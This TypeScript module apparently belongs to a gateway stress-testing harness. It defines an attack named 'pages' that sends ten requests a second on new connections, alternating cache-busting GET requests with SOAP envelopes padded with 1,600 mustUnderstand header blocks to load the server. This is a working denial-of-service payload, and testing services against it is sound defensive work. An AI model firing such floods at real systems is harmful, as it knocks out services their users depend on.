import type { Attack } from '../attack.ts';
import { countStatus, every, open, post } from '../wire.ts';

const blocks = '<x:a xmlns:x="u" s:mustUnderstand="1"/>'.repeat(1_600);
const message = `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header>${blocks}</s:Header><s:Body/></s:Envelope>`;
const asked = post('/v2/docs/-/explain', message, 'Content-Type: text/xml\r\nConnection: close\r\n');

export const pages: Attack = {
  name: 'pages',
  says: 'a hundred times a second a page that nobody asked for before, or a message for the doctor that takes long',
  run: async (target) => {
    await every(10, target, (round) => {
      const page = `GET /v2/docs/GetSearch?x=${round} HTTP/1.1\r\nHost: gateway\r\nConnection: close\r\n\r\n`;
      countStatus(open(target), target).end(round % 2 === 0 ? page : asked);
    });
    return [];
  },
};
